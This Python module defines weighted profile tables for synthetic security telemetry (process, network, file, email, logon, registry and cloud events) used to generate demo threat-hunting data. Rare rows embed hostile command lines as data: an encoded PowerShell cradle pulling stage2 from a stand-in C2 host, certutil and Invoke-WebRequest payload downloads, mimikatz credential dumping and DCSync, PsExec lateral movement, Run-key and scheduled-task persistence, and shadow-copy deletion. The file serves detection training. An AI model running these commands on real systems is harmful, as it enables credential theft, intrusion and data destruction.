"""Value tables of the synthetic tenant: event profiles.

One row of a profile table fixes the columns that must agree. ``weight`` is its share; ``{user}``,
``{n}`` and ``{host}`` in templates become the row's account, a small number and another device.
Weights of suspicious rows are small so demo hunts find a handful per day. The small ``_proc``,
``_mail``... helpers only spell a profile row.
"""

from __future__ import annotations

import base64
from typing import Any

_STAGE2 = "IEX (New-Object Net.WebClient).DownloadString('http://evil-c2.example.net/stage2.ps1')"
#: PowerShell's -EncodedCommand takes base64 of UTF-16LE text.
ENCODED_STAGE2 = base64.b64encode(_STAGE2.encode("utf-16-le")).decode("ascii")

SYS32 = "C:\\Windows\\System32\\"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def _proc(
    file: str,
    path: str,
    cmd: str,
    parent: str,
    parent_path: str,
    company: str,
    weight: int,
    *,
    account: str = "user",
    integrity: str = "Medium",
    extra: str = "",
) -> dict[str, Any]:
    return {
        "file": file,
        "path": path,
        "cmd": cmd,
        "parent": parent,
        "parent_path": parent_path,
        "company": company,
        "account": account,
        "integrity": integrity,
        "extra": extra,
        "weight": weight,
    }


_MS = "Microsoft Corporation"
_EXPLORER = ("explorer.exe", "C:\\Windows\\explorer.exe")
#: DeviceProcessEvents: the created process, its parent, and who ran it.
PROCESS_PROFILES: tuple[dict[str, Any], ...] = (
    _proc("svchost.exe", SYS32 + "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", "services.exe", SYS32 + "services.exe", _MS, 220, account="system", integrity="System"),
    _proc("conhost.exe", SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "cmd.exe", SYS32 + "cmd.exe", _MS, 120),
    _proc("cmd.exe", SYS32 + "cmd.exe", 'cmd.exe /c "C:\\Program Files\\Contoso\\Agent\\healthcheck.bat"', *_EXPLORER, _MS, 80),
    _proc("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"chrome.exe" --type=renderer --lang=en-US --field-trial-handle={n}', *_EXPLORER, "Google LLC", 140),
    _proc("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle={n}', *_EXPLORER, _MS, 120),
    _proc("OUTLOOK.EXE", _OFFICE + "OUTLOOK.EXE", '"OUTLOOK.EXE" /recycle', *_EXPLORER, _MS, 70),
    _proc("EXCEL.EXE", _OFFICE + "EXCEL.EXE", '"EXCEL.EXE" "C:\\Users\\{user}\\Documents\\budget-{n}.xlsx"', *_EXPLORER, _MS, 50),
    _proc("WINWORD.EXE", _OFFICE + "WINWORD.EXE", '"WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\Q{n}-report.docx"', *_EXPLORER, _MS, 50),
    _proc("ms-teams.exe", "C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe", '"ms-teams.exe" msteams:system-initiated', *_EXPLORER, _MS, 60),
    _proc("powershell.exe", _PS, "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Contoso\\inventory.ps1", "svchost.exe", SYS32 + "svchost.exe", _MS, 40, account="system", integrity="System"),
    _proc("powershell.exe", _PS, "powershell.exe Get-Service | Where-Object Status -eq 'Running'", "cmd.exe", SYS32 + "cmd.exe", _MS, 15),
    _proc("taskhostw.exe", SYS32 + "taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", "svchost.exe", SYS32 + "svchost.exe", _MS, 40),
    _proc("SearchProtocolHost.exe", SYS32 + "SearchProtocolHost.exe", '"SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}', "SearchIndexer.exe", SYS32 + "SearchIndexer.exe", _MS, 40, account="system", integrity="System"),
    _proc("WmiPrvSE.exe", SYS32 + "wbem\\WmiPrvSE.exe", "WmiPrvSE.exe -Embedding", "svchost.exe", SYS32 + "svchost.exe", _MS, 30, account="system", integrity="System"),
    _proc("RuntimeBroker.exe", SYS32 + "RuntimeBroker.exe", "RuntimeBroker.exe -Embedding", "svchost.exe", SYS32 + "svchost.exe", _MS, 30),
    _proc("notepad.exe", SYS32 + "notepad.exe", '"notepad.exe" C:\\Users\\{user}\\Desktop\\notes-{n}.txt', *_EXPLORER, _MS, 20),
    _proc("git.exe", "C:\\Program Files\\Git\\cmd\\git.exe", "git.exe fetch origin --prune", "Code.exe", "C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "The Git Development Community", 20),
    _proc("python.exe", "C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python312\\python.exe", "python.exe -m pytest tests -q", "cmd.exe", SYS32 + "cmd.exe", "Python Software Foundation", 10),
    _proc("whoami.exe", SYS32 + "whoami.exe", "whoami /all", "cmd.exe", SYS32 + "cmd.exe", _MS, 3),
    _proc("net.exe", SYS32 + "net.exe", 'net group "Domain Admins" /domain', "cmd.exe", SYS32 + "cmd.exe", _MS, 2),
    _proc("nltest.exe", SYS32 + "nltest.exe", "nltest /dclist:contoso.com", "cmd.exe", SYS32 + "cmd.exe", _MS, 1),
    _proc("powershell.exe", _PS, f"powershell.exe -NoP -W Hidden -EncodedCommand {ENCODED_STAGE2}", "WINWORD.EXE", _OFFICE + "WINWORD.EXE", _MS, 2, extra='{"ParentMacro":true}'),
    _proc("powershell.exe", _PS, 'powershell.exe -nop -c "Invoke-WebRequest -Uri http://malware-drop.example.org/p.exe -OutFile C:\\Users\\Public\\p.exe"', "cmd.exe", SYS32 + "cmd.exe", _MS, 1),
    _proc("mimikatz.exe", "C:\\Users\\{user}\\Downloads\\mimikatz.exe", 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', "cmd.exe", SYS32 + "cmd.exe", "gentilkiwi (Benjamin DELPY)", 1, integrity="High"),
    _proc("Mimikatz.EXE", "C:\\Users\\Public\\Mimikatz.EXE", 'Mimikatz.EXE "lsadump::dcsync /user:krbtgt" exit', "powershell.exe", _PS, "gentilkiwi (Benjamin DELPY)", 1, integrity="High"),
    _proc("PsExec.exe", "C:\\Tools\\PsExec.exe", "PsExec.exe \\\\{host} -accepteula -s cmd.exe", "cmd.exe", SYS32 + "cmd.exe", "Sysinternals - www.sysinternals.com", 1, integrity="High"),
    _proc("psexec.exe", "C:\\Users\\{user}\\Downloads\\psexec.exe", "psexec.exe \\\\{host} -u CONTOSO\\administrator cmd.exe", "powershell.exe", _PS, "Sysinternals - www.sysinternals.com", 1, integrity="High"),
    _proc("PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "services.exe", SYS32 + "services.exe", "Sysinternals", 1, account="system", integrity="System"),
    _proc("certutil.exe", SYS32 + "certutil.exe", "certutil.exe -urlcache -split -f http://evil-c2.example.net/beacon.dll C:\\Users\\Public\\beacon.dll", "cmd.exe", SYS32 + "cmd.exe", _MS, 1),
    _proc("rundll32.exe", SYS32 + "rundll32.exe", "rundll32.exe C:\\Users\\Public\\beacon.dll,Start", "powershell.exe", _PS, _MS, 1),
    _proc("schtasks.exe", SYS32 + "schtasks.exe", 'schtasks.exe /create /tn "OneDrive Update" /tr C:\\Users\\Public\\updater.exe /sc onlogon /f', "powershell.exe", _PS, _MS, 1, integrity="High"),
    _proc("vssadmin.exe", SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe", SYS32 + "cmd.exe", _MS, 1, integrity="High"),
)  # fmt: skip


def _dest(
    url: str, ip: str, port: int, proto: str, proc: str, weight: int, kind: str = "out"
) -> dict[str, Any]:
    return {"url": url, "ip": ip, "port": port, "proto": proto, "proc": proc, "kind": kind, "weight": weight}


#: DeviceNetworkEvents: ``kind`` ``out`` (public), ``internal`` (to another device), ``in`` (from one).
NETWORK_DESTINATIONS: tuple[dict[str, Any], ...] = (
    _dest("login.microsoftonline.com", "20.190.151.68", 443, "Tcp", "msedge.exe", 60),
    _dest("outlook.office365.com", "52.96.165.18", 443, "Tcp", "OUTLOOK.EXE", 60),
    _dest("teams.microsoft.com", "52.113.194.132", 443, "Tcp", "ms-teams.exe", 50),
    _dest("contoso.sharepoint.com", "13.107.136.9", 443, "Tcp", "msedge.exe", 40),
    _dest("www.google.com", "142.250.74.36", 443, "Tcp", "chrome.exe", 50),
    _dest("github.com", "140.82.121.4", 443, "Tcp", "git.exe", 20),
    _dest("ctldl.windowsupdate.com", "93.184.221.240", 80, "Tcp", "svchost.exe", 30),
    _dest("settings-win.data.microsoft.com", "20.42.65.92", 443, "Tcp", "svchost.exe", 30),
    _dest("wdcp.microsoft.com", "20.10.31.115", 443, "Tcp", "MsMpEng.exe", 20),
    _dest("time.windows.com", "168.61.215.74", 123, "Udp", "svchost.exe", 10),
    _dest("", "", 445, "Tcp", "System", 40, "internal"),
    _dest("", "", 88, "Tcp", "lsass.exe", 30, "internal"),
    _dest("", "", 389, "Tcp", "lsass.exe", 20, "internal"),
    _dest("", "", 3389, "Tcp", "mstsc.exe", 5, "internal"),
    _dest("", "", 445, "Tcp", "System", 20, "in"),
    _dest("", "", 3389, "Tcp", "svchost.exe", 5, "in"),
    _dest("", "", 5985, "Tcp", "svchost.exe", 3, "in"),
    _dest("evil-c2.example.net", "203.0.113.66", 443, "Tcp", "rundll32.exe", 2),
    _dest("cdn.evilupdate.example.com", "198.51.100.23", 8080, "Tcp", "powershell.exe", 1),
    _dest("malware-drop.example.org", "203.0.113.10", 80, "Tcp", "certutil.exe", 1),
    _dest("", "203.0.113.99", 4444, "Tcp", "powershell.exe", 1),
)

#: Outbound connection outcomes (inbound rows are always ``InboundConnectionAccepted``).
NETWORK_ACTIONS: tuple[str, ...] = ("ConnectionSuccess",) * 17 + (
    "ConnectionFailed",
    "ConnectionFailed",
    "ConnectionAttempt",
)


def _file(
    name: str, folder: str, proc: str, weight: int, *, origin: str = "", account: str = "user"
) -> dict[str, Any]:
    return {
        "name": name,
        "folder": folder,
        "proc": proc,
        "origin": origin,
        "account": account,
        "weight": weight,
    }


_USER_HOME = "C:\\Users\\{user}\\"
#: DeviceFileEvents: file name and folder templates and the process that wrote them.
FILE_PROFILES: tuple[dict[str, Any], ...] = (
    _file("Q{n}-report.docx", _USER_HOME + "Documents\\", "WINWORD.EXE", 30),
    _file("budget-{n}.xlsx", _USER_HOME + "Documents\\", "EXCEL.EXE", 25),
    _file(
        "invoice_{n}.pdf",
        _USER_HOME + "Downloads\\",
        "msedge.exe",
        15,
        origin="https://billing.fabrikam.example/invoices",
    ),
    _file(
        "setup-{n}.msi",
        _USER_HOME + "Downloads\\",
        "chrome.exe",
        5,
        origin="https://downloads.tailspintoys.example/setup",
    ),
    _file("~WRL{n}.tmp", _USER_HOME + "AppData\\Local\\Temp\\", "WINWORD.EXE", 40),
    _file(
        "f_{n}",
        _USER_HOME + "AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cache\\Cache_Data\\",
        "msedge.exe",
        60,
    ),
    _file("{n}.etl", "C:\\Windows\\System32\\LogFiles\\WMI\\", "svchost.exe", 40, account="system"),
    _file(
        "agent-{n}.log", "C:\\ProgramData\\Contoso\\Agent\\Logs\\", "ContosoAgent.exe", 30, account="system"
    ),
    _file(
        "mimikatz.exe",
        _USER_HOME + "Downloads\\",
        "msedge.exe",
        1,
        origin="http://malware-drop.example.org/mimikatz_trunk.zip",
    ),
    _file(
        "beacon.dll", "C:\\Users\\Public\\", "certutil.exe", 1, origin="http://evil-c2.example.net/beacon.dll"
    ),
    _file("invoice_{n}.pdf.exe", _USER_HOME + "Downloads\\", "OUTLOOK.EXE", 1),
    _file("README-DECRYPT.txt", _USER_HOME + "Documents\\", "svch0st.exe", 1),
)
FILE_ACTIONS: tuple[str, ...] = (
    ("FileCreated",) * 12 + ("FileModified",) * 5 + ("FileDeleted",) * 2 + ("FileRenamed",)
)

_AUTH_PASS = '{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"pass"}'
_AUTH_FAIL = '{"SPF":"fail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}'
_AUTH_INTERNAL = '{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"other"}'


def _mail(
    kind: str,
    sender: str,
    name: str,
    subject: str,
    url: str,
    weight: int,
    *,
    ip: str = "40.107.22.55",
    threats: str = "",
    action: str = "Delivered",
    location: str = "Inbox/folder",
    auth: str = _AUTH_PASS,
    methods: str = "",
    bcl: int = 0,
) -> dict[str, Any]:
    return {
        "kind": kind,
        "sender": sender,
        "sender_name": name,
        "subject": subject,
        "url": url,
        "ip": ip,
        "threats": threats,
        "action": action,
        "location": location,
        "auth": auth,
        "methods": methods,
        "bcl": bcl,
        "weight": weight,
    }


_PHISH_URL = "https://login.micros0ft-security.example/verify?u={n}"
#: EmailEvents: ``kind`` ``inbound`` (sender below, recipient a user), ``outbound`` (a user to the
#: sender below), ``intra`` (user to user).
EMAIL_PROFILES: tuple[dict[str, Any], ...] = (
    _mail("inbound", "newsletter@news.fabrikam.example", "Fabrikam News", "Your weekly digest #{n}", "https://news.fabrikam.example/digest/{n}", 20, bcl=6),
    _mail("inbound", "billing@fabrikam.example", "Fabrikam Billing", "Invoice {n} from Fabrikam", "https://billing.fabrikam.example/invoices/{n}", 6),
    _mail("inbound", "billing@fabrikam.example", "Fabrikam Billing", "Invoices attached", "https://billing.fabrikam.example/invoices", 3),
    _mail("inbound", "noreply@github.com", "GitHub", "[contoso/platform] PR #{n}: fix flaky test", "https://github.com/contoso/platform/pull/{n}", 15, ip="192.30.252.205"),
    _mail("inbound", "partner@tailspintoys.example", "Tailspin Toys", "Re: Contract renewal {n}", "https://tailspintoys.example/contracts/{n}", 15),
    _mail("inbound", "promo@deals.example.net", "Deals", "You won a {n} dollar gift card", "http://deals.example.net/claim/{n}", 6, ip="198.51.100.140", threats="Spam", action="Junked", location="Junk folder", auth=_AUTH_FAIL, methods='{"Spam":["Mixed analysis detection"]}', bcl=8),
    _mail("inbound", "it-support@micros0ft-security.example", "IT Support", "Action required: verify your mailbox", _PHISH_URL, 2, ip="203.0.113.45", threats="Phish", auth=_AUTH_FAIL, methods='{"Phish":["URL malicious reputation"]}'),
    _mail("inbound", "it-support@micros0ft-security.example", "IT Support", "Action required: verify your mailbox", _PHISH_URL, 2, ip="203.0.113.45", threats="Phish", action="Blocked", location="Quarantine", auth=_AUTH_FAIL, methods='{"Phish":["URL detonation reputation"]}'),
    _mail("inbound", "docs@sharepoint-files.example", "SharePoint", "{user} shared 'Payroll Q{n}' with you", "https://sharepoint-files.example/s/payroll-{n}", 1, ip="203.0.113.46", threats="Phish", auth=_AUTH_FAIL, methods='{"Phish":["Impersonation brand"]}'),
    _mail("inbound", "accounts@fabrikam-billing.example", "Accounts Payable", "Overdue invoice {n}", "http://malware-drop.example.org/invoice-{n}", 1, ip="198.51.100.77", threats="Malware, Phish", action="Blocked", location="Quarantine", auth=_AUTH_FAIL, methods='{"Malware":["File detonation"],"Phish":["URL detonation"]}'),
    _mail("outbound", "partner@tailspintoys.example", "Tailspin Toys", "Re: Contract renewal {n}", "https://contoso.sharepoint.com/sites/sales/contract-{n}", 15, ip="40.107.22.60"),
    _mail("intra", "", "", "Team sync notes {n}", "https://contoso.sharepoint.com/sites/team/notes-{n}", 15, ip="", auth=_AUTH_INTERNAL),
)  # fmt: skip

#: EmailAttachmentInfo: attachment names by whether the message carried malware.
ATTACHMENTS_CLEAN: tuple[tuple[str, str], ...] = (
    ("invoice-{n}.pdf", "pdf"),
    ("contract-{n}.docx", "docx"),
    ("forecast-{n}.xlsx", "xlsx"),
    ("photo-{n}.png", "png"),
)
ATTACHMENTS_MALWARE: tuple[tuple[str, str], ...] = (
    ("invoice_{n}.pdf.exe", "exe"),
    ("Remittance-{n}.html", "html"),
)


def _logon(
    action: str,
    logon_type: str,
    proto: str,
    account: str,
    remote: str,
    weight: int,
    *,
    failure: str = "",
    proc: str = "lsass.exe",
) -> dict[str, Any]:
    return {
        "action": action,
        "logon_type": logon_type,
        "proto": proto,
        "failure": failure,
        "account": account,
        "remote": remote,
        "proc": proc,
        "weight": weight,
    }


#: DeviceLogonEvents: ``account`` ``user`` (a tenant user) or a local account name as spelt in the
#: logs (case variants on purpose); ``remote`` ``none``, ``internal`` or an attacker IP.
LOGON_PROFILES: tuple[dict[str, Any], ...] = (
    _logon("LogonSuccess", "Interactive", "Negotiate", "user", "none", 30, proc="winlogon.exe"),
    _logon("LogonSuccess", "Unlock", "Negotiate", "user", "none", 15, proc="winlogon.exe"),
    _logon("LogonSuccess", "CachedInteractive", "Negotiate", "user", "none", 3, proc="winlogon.exe"),
    _logon("LogonSuccess", "RemoteInteractive", "Negotiate", "user", "internal", 5),
    _logon("LogonSuccess", "Network", "Kerberos", "user", "internal", 20),
    _logon("LogonSuccess", "Service", "Negotiate", "svc-backup", "none", 6, proc="services.exe"),
    _logon("LogonSuccess", "Batch", "Negotiate", "svc-sql", "none", 3, proc="svchost.exe"),
    _logon("LogonFailed", "Network", "NTLM", "user", "internal", 6, failure="InvalidUserNameOrPassword"),
    _logon("LogonFailed", "Interactive", "Negotiate", "user", "none", 4, failure="InvalidUserNameOrPassword", proc="winlogon.exe"),
    _logon("LogonFailed", "Network", "NTLM", "administrator", "203.0.113.50", 3, failure="InvalidUserNameOrPassword"),
    _logon("LogonFailed", "RemoteInteractive", "NTLM", "Administrator", "203.0.113.50", 2, failure="InvalidUserNameOrPassword"),
    _logon("LogonFailed", "Network", "NTLM", "ADMINISTRATOR", "203.0.113.51", 1, failure="InvalidUserNameOrPassword"),
    _logon("LogonFailed", "Network", "NTLM", "admin", "203.0.113.51", 1, failure="UserNameDoesNotExist"),
    _logon("LogonSuccess", "Network", "NTLM", "administrator", "203.0.113.50", 1),
    _logon("LogonAttempted", "RemoteInteractive", "Negotiate", "user", "internal", 1),
)  # fmt: skip


def _devent(
    action: str,
    weight: int,
    *,
    file: str = "",
    folder: str = "",
    url: str = "",
    proc: str = "",
    extra: str = "",
) -> dict[str, Any]:
    return {
        "action": action,
        "file": file,
        "folder": folder,
        "url": url,
        "proc": proc,
        "extra": extra,
        "weight": weight,
    }


#: DeviceEvents: the miscellaneous sensor events; AdditionalFields carries the details.
DEVICE_EVENT_PROFILES: tuple[dict[str, Any], ...] = (
    _devent("DnsQueryResponse", 20, proc="svchost.exe", extra='{"DnsQueryString":"login.microsoftonline.com","DnsQueryResult":[{"DnsQueryType":"A","Address":"20.190.151.68"}]}'),
    _devent("PowerShellCommand", 15, proc="powershell.exe", extra='{"Command":"Get-Service"}'),
    _devent("PowerShellCommand", 2, proc="powershell.exe", extra='{"Command":"Invoke-WebRequest"}'),
    _devent("NamedPipeEvent", 10, proc="chrome.exe", extra='{"PipeName":"\\\\Device\\\\NamedPipe\\\\mojo.{n}","FileOperation":"File opened"}'),
    _devent("ScheduledTaskCreated", 6, proc="svchost.exe", extra='{"TaskName":"\\\\Microsoft\\\\Windows\\\\UpdateOrchestrator\\\\Schedule Scan"}'),
    _devent("ScheduledTaskCreated", 1, proc="schtasks.exe", extra='{"TaskName":"\\\\OneDrive Update","TaskContent":"C:\\\\Users\\\\Public\\\\updater.exe"}'),
    _devent("BrowserLaunchedToOpenUrl", 10, url="https://contoso.sharepoint.com/sites/team/notes-{n}", proc="OUTLOOK.EXE"),
    _devent("UsbDriveMounted", 3, proc="svchost.exe", extra='{"DriveLetter":"E:","ProductName":"Ultra","Manufacturer":"SanDisk","SerialNumber":"4C530001{n}"}'),
    _devent("SmartScreenUrlWarning", 1, url="https://login.micros0ft-security.example/verify?u={n}", proc="msedge.exe", extra='{"Experience":"Phishing"}'),
    _devent("ExploitGuardNetworkProtectionBlocked", 1, url="evil-c2.example.net", proc="rundll32.exe", extra='{"ResponseCategory":"CustomBlockList"}'),
    _devent("AntivirusDetection", 1, file="mimikatz.exe", folder="C:\\Users\\{user}\\Downloads\\mimikatz.exe", proc="explorer.exe", extra='{"ThreatName":"HackTool:Win32/Mimikatz.D","WasRemediated":true,"WasExecutingWhileDetected":false}'),
    _devent("AntivirusDetection", 1, file="setup-{n}.exe", folder="C:\\Users\\{user}\\Downloads\\setup-{n}.exe", proc="chrome.exe", extra='{"ThreatName":"PUA:Win32/Presenoker","WasRemediated":true,"WasExecutingWhileDetected":false}'),
    _devent("AsrOfficeChildProcessBlocked", 1, file="powershell.exe", folder=_PS, proc="WINWORD.EXE", extra='{"IsAudit":false}'),
    _devent("OpenProcessApiCall", 1, file="lsass.exe", folder=SYS32 + "lsass.exe", proc="mimikatz.exe", extra='{"DesiredAccess":5136}'),
    _devent("LdapSearch", 2, proc="powershell.exe", extra='{"SearchFilter":"(objectCategory=computer)","AttributeList":["name","operatingSystem"]}'),
    _devent("UserAccountCreated", 1, proc="net.exe", extra='{"AccountName":"helpdesk-tmp"}'),
)  # fmt: skip

RUN_KEY = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"


def _reg(action: str, key: str, name: str, vtype: str, data: str, proc: str, weight: int) -> dict[str, Any]:
    return {
        "action": action,
        "key": key,
        "name": name,
        "vtype": vtype,
        "data": data,
        "proc": proc,
        "weight": weight,
    }


#: DeviceRegistryEvents.
REGISTRY_PROFILES: tuple[dict[str, Any], ...] = (
    _reg("RegistryValueSet", "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs", "MRUListEx", "Binary", "", "explorer.exe", 20),
    _reg("RegistryValueSet", "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings", "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe", "Binary", "", "svchost.exe", 20),
    _reg("RegistryValueSet", "HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities", "LastSyncTime", "Qword", "{n}", "OUTLOOK.EXE", 10),
    _reg("RegistryValueSet", RUN_KEY, "OneDrive", "String", '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background', "OneDriveSetup.exe", 4),
    _reg("RegistryKeyCreated", "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-18\\Products\\{n}", "", "", "", "msiexec.exe", 4),
    _reg("RegistryKeyDeleted", "HKEY_CURRENT_USER\\Software\\Classes\\Local Settings\\MuiCache\\{n}", "", "", "", "svchost.exe", 3),
    _reg("RegistryValueDeleted", "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FeatureUsage\\AppSwitched", "{n}", "", "", "explorer.exe", 3),
    _reg("RegistryValueSet", RUN_KEY, "Updater", "String", "C:\\Users\\Public\\updater.exe", "powershell.exe", 1),
    _reg("RegistryValueSet", "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", "Dword", "1", "reg.exe", 1),
    _reg("RegistryKeyCreated", "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\PSEXESVC", "", "", "", "services.exe", 1),
)  # fmt: skip

#: DeviceImageLoadEvents: (dll, folder, loading process, weight).
IMAGE_LOAD_PROFILES: tuple[dict[str, Any], ...] = tuple(
    {"file": dll, "folder": folder, "proc": proc, "weight": weight}
    for dll, folder, proc, weight in (
        ("ntdll.dll", SYS32, "svchost.exe", 20),
        ("kernelbase.dll", SYS32, "chrome.exe", 15),
        ("combase.dll", SYS32, "OUTLOOK.EXE", 10),
        ("mso.dll", "C:\\Program Files\\Common Files\\Microsoft Shared\\Office16\\", "WINWORD.EXE", 10),
        ("clr.dll", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\", "powershell.exe", 8),
        ("System.Management.Automation.ni.dll", "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\", "powershell.exe", 8),
        ("winhttp.dll", SYS32, "msedge.exe", 8),
        ("samlib.dll", SYS32, "mimikatz.exe", 1),
        ("vaultcli.dll", SYS32, "mimikatz.exe", 1),
        ("wininet.dll", SYS32, "rundll32.exe", 1),
    )
)  # fmt: skip


def _idlogon(
    action: str, app: str, logon_type: str, proto: str, ip: str, weight: int, *, failure: str = ""
) -> dict[str, Any]:
    return {
        "action": action,
        "app": app,
        "logon_type": logon_type,
        "proto": proto,
        "ip": ip,
        "failure": failure,
        "weight": weight,
    }


#: IdentityLogonEvents: ``ip`` ``internal`` (the user's device), ``office`` (egress) or an attacker IP.
IDENTITY_LOGON_PROFILES: tuple[dict[str, Any], ...] = (
    _idlogon("LogonSuccess", "Active Directory", "Resource access", "Kerberos", "internal", 40),
    _idlogon("LogonSuccess", "Active Directory", "Credentials validation", "Ntlm", "internal", 10),
    _idlogon(
        "LogonFailed",
        "Active Directory",
        "Credentials validation",
        "Ntlm",
        "internal",
        5,
        failure="WrongPassword",
    ),
    _idlogon("LogonSuccess", "Microsoft 365", "Login:login", "", "office", 20),
    _idlogon(
        "LogonFailed",
        "Microsoft 365",
        "Login:login",
        "",
        "203.0.113.50",
        4,
        failure="InvalidUserNameOrPassword",
    ),
    _idlogon("LogonSuccess", "Microsoft 365", "Login:login", "", "203.0.113.50", 1),
)

#: IdentityDirectoryEvents: (action, protocol, AdditionalFields, weight).
DIRECTORY_PROFILES: tuple[dict[str, Any], ...] = tuple(
    {"action": action, "proto": proto, "extra": extra, "weight": weight}
    for action, proto, extra, weight in (
        ("Account Password changed", "Samr", '{"TARGET_OBJECT.USER":"{user}"}', 20),
        ("Group Membership changed", "Ldap", '{"TO.GROUP":"Finance Share Readers","TARGET_OBJECT.USER":"{user}"}', 10),
        ("Account Unlock changed", "Ldap", '{"TARGET_OBJECT.USER":"{user}"}', 5),
        ("Account enabled", "Ldap", '{"TARGET_OBJECT.USER":"{user}"}', 3),
        ("Group Membership changed", "Ldap", '{"TO.GROUP":"Domain Admins","TARGET_OBJECT.USER":"{user}"}', 1),
        ("Directory Services replication", "Drsr", '{"SourceDevice":"{host}","ReplicatedObjects":"krbtgt"}', 1),
        ("SMB file copy", "Smb", '{"FileName":"PSEXESVC.exe","FilePath":"ADMIN$"}', 1),
    )
)  # fmt: skip


def _cloud(
    action: str,
    app: str,
    app_id: int,
    activity: str,
    obj_type: str,
    obj: str,
    weight: int,
    *,
    ip: str = "office",
) -> dict[str, Any]:
    return {
        "action": action,
        "app": app,
        "app_id": app_id,
        "activity": activity,
        "obj_type": obj_type,
        "obj": obj,
        "ip": ip,
        "weight": weight,
    }


_EXO = ("Microsoft Exchange Online", 20893)
_SPO = ("Microsoft SharePoint Online", 20892)
#: CloudAppEvents.
CLOUD_APP_PROFILES: tuple[dict[str, Any], ...] = (
    _cloud("FileAccessed", *_SPO, "Read", "File", "/sites/team/Shared Documents/notes-{n}.docx", 20),
    _cloud("FileDownloaded", "Microsoft OneDrive for Business", 15600, "Download", "File", "/personal/{user}/Documents/budget-{n}.xlsx", 10),
    _cloud("MailItemsAccessed", *_EXO, "Read", "Mailbox", "{user}@contoso.com", 20),
    _cloud("Send", *_EXO, "Send", "Email", "Re: Contract renewal {n}", 10),
    _cloud("MessageSent", "Microsoft Teams", 11394, "Send", "Chat", "chat-{n}", 10),
    _cloud("FileDeleted", *_SPO, "Delete", "File", "/sites/team/Shared Documents/old-{n}.pptx", 3),
    _cloud("New-InboxRule", *_EXO, "Create", "Mailbox rule", "Forward to archive", 1, ip="198.51.100.77"),
    _cloud("Set-Mailbox", *_EXO, "Edit", "Mailbox", "ForwardingSmtpAddress=smtp:collector@outlook-mail.example", 1, ip="198.51.100.77"),
)  # fmt: skip
